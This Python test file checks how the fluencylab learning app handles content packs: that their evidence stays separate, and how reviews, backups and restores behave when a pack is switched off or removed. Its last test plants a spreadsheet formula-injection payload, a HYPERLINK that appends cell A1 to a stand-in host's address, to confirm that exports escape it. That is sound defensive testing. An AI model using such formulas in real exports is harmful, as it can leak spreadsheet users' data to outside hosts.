"""What is shown in a pack is kept whatever becomes of the pack, counts while it is on, and never moves the ten."""

import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from functools import partial
from pathlib import Path

import pytest
from lab_fixture import Bench
from pack_fixture import CASE, NAME, PackFolder

from fluencylab import clock
from fluencylab.actions import cards, cases, data, missions, packs, review
from fluencylab.actions.certificate import certified
from fluencylab.actions.progress import Fluency, fluency
from fluencylab.actions.report import report
from fluencylab.actions.standing import path
from fluencylab.curriculum.loader import track
from fluencylab.curriculum.schema import Case, Concept, Mission
from fluencylab.packs.full_track import full_track
from fluencylab.packs.installed import add, remove, switch

SLUG = f"{NAME}.many-answers"


def there() -> tuple[Concept, Mission, Case]:
    concept = full_track().concept(SLUG)
    assert concept
    return concept, concept.missions[0], concept.cases[0]


async def stands(lab: Bench) -> Fluency:
    async with lab.store.read() as session:
        return await fluency(session, lab.learner, clock.now())


async def argue(lab: Bench, concept: Concept, case: Case, times: int = 1) -> None:
    for _ in range(times):
        await missions.begin(lab.store, lab.learner, case.slug)
        reasons = [reason.id for reason in case.reasons if reason.carries]
        flip = next(one.id for one in case.flips if one.flips)
        await cases.argue(lab.store, lab.learner, concept, case, case.decide.best, reasons, flip, 3)
        await cases.argue_twin(lab.store, lab.learner, concept, case, case.decide.twin.best)


@pytest.fixture
async def worked(lab: Bench, folder: PackFolder) -> AsyncIterator[Bench]:
    """A learner who did a case of ours, and then the pack's mission and its case."""
    ours = track().concepts[0]
    await argue(lab, ours, ours.cases[0])
    add(folder.path)
    concept, mission, case = there()
    await missions.predict(lab.store, lab.learner, concept, mission, {"distinct@0": 1, "distinct@1": 8}, 3)
    await lab.ended(await missions.run(lab.store, lab.queue, lab.learner, mission))
    await missions.see(lab.store, lab.learner, concept, mission, 1)
    await missions.decide(lab.store, lab.learner, concept, mission, "decide", mission.decide.best, 2)
    await missions.decide(lab.store, lab.learner, concept, mission, "twin", mission.decide.twin.best, None)
    await argue(lab, concept, case)
    yield lab


async def test_a_packs_evidence_counts_for_the_pack_alone(worked: Bench) -> None:
    on = await stands(worked)
    assert len(on.cells) == 30 and len(on.packs) == 3
    cell = on.cell(SLUG, "decisions")
    assert cell.n >= 4 and cell.state in ("emerging", "solid") and cell.deterministic == cell.n
    switch(NAME, False)
    off = await stands(worked)
    assert off.cells == on.cells and off.calibration == on.calibration, "the ten say the same with the pack and without it"
    assert off.packs == () and off.of(SLUG) == ()
    switch(NAME, True)
    assert await stands(worked) == on


async def test_nothing_a_pack_asks_makes_a_cell_of_ours_likelier(lab: Bench, folder: PackFolder) -> None:
    """However easy a pack is, and however often it is gone through."""
    before = await stands(lab)
    add(folder.path)
    concept, _, case = there()
    await argue(lab, concept, case, times=8)
    after = await stands(lab)
    assert after.cells == before.cells and after.calibration == before.calibration
    async with lab.store.read() as session:
        assert await certified(session, lab.learner, after.cells) == []


async def test_what_was_shown_is_kept_when_the_pack_is_off_and_when_it_is_gone(worked: Bench) -> None:
    async def resting() -> list[packs.Resting]:
        async with worked.store.read() as session:
            return await packs.resting(session, worked.learner)

    assert await resting() == []
    switch(NAME, False)
    (off,) = await resting()
    assert (off.name, off.title) == (NAME, "A pack of your own") and off.n >= 5
    remove(NAME)
    assert await resting() == [off._replace(title=NAME)], "gone, it has no title any more"


async def test_reviews_path_cards_and_report_know_of_packs_and_of_their_going(worked: Bench) -> None:
    later = datetime(2035, 1, 1, tzinfo=UTC)

    async def looked() -> tuple[set[str], set[str], set[str]]:
        async with worked.store.read() as session:
            due = {one.skill[0] for one in await review.reviews(session, worked.learner, later)}
            done = {slug for slug in (await path(session, worked.learner, clock.now())).done if slug.startswith(NAME)}
            met = {item.concept for item in await cards.met(session, worked.learner)}
            found = await report(session, worked.learner, clock.now())
            assert len(found.fluency.cells) == 30
        return due, done, met

    due, done, met = await looked()
    assert SLUG in due and SLUG in met and len(done) == 2
    for act in (partial(switch, NAME, False), partial(remove, NAME)):
        act()
        due, done, met = await looked()
        assert SLUG not in due | met and done == set() and track().concepts[0].slug in met


async def test_words_of_a_pack_that_changed_make_its_evidence_due(worked: Bench, folder: PackFolder) -> None:
    folder.change(CASE, "Amara's app now writes", "Since spring, amara's app now writes")
    add(folder.path)
    cells = (await stands(worked)).of(SLUG)
    assert any("worded anew" in cell.due_because for cell in cells)


async def test_a_backup_says_which_packs_it_needs_and_a_restore_says_which_are_not_here(worked: Bench) -> None:
    file = await data.export(worked.store, worked.learner)
    assert json.loads(file)["packs"] == {NAME: "A pack of your own 0.1, by Your name"}
    before = await stands(worked)
    remove(NAME)
    restored = await data.restore(worked.store, worked.learner, file, replace=True)
    assert restored.resting == ["A pack of your own 0.1, by Your name"]
    assert (await stands(worked)).packs == ()
    assert restored.counts["evidence"] == len(json.loads(file)["tables"]["evidence"])
    assert (await stands(worked)).cells == before.cells


async def test_a_backup_without_packs_is_as_it_ever_was(lab: Bench) -> None:
    ours = track().concepts[0]
    await argue(lab, ours, ours.cases[0])
    file = await data.export(lab.store, lab.learner)
    assert "packs" not in json.loads(file)
    assert (await data.restore(lab.store, lab.learner, file, replace=True)).resting == []


async def test_a_process_that_did_not_switch_it_sees_it_all_the_same(worked: Bench, home: Path) -> None:
    """The list of packs is the only thing processes share: another one wrote it."""
    on = await stands(worked)
    file = home / "data" / "packs.json"
    kept = json.loads(file.read_text())
    file.write_text(json.dumps({NAME: kept[NAME] | {"on": False}}))
    assert (await stands(worked)).packs == ()
    file.write_text(json.dumps(kept))
    assert (await stands(worked)).packs == on.packs


async def test_a_situation_that_is_a_formula_is_text_in_the_table(worked: Bench, folder: PackFolder) -> None:
    folder.change(CASE, 'situation = """', 'situation = """=HYPERLINK("http://example.org/"&A1)')
    add(folder.path)
    async with worked.store.read() as session:
        table = cards.table(await cards.met(session, worked.learner))
    assert "'=HYPERLINK" in table and '"=HYPERLINK' not in table
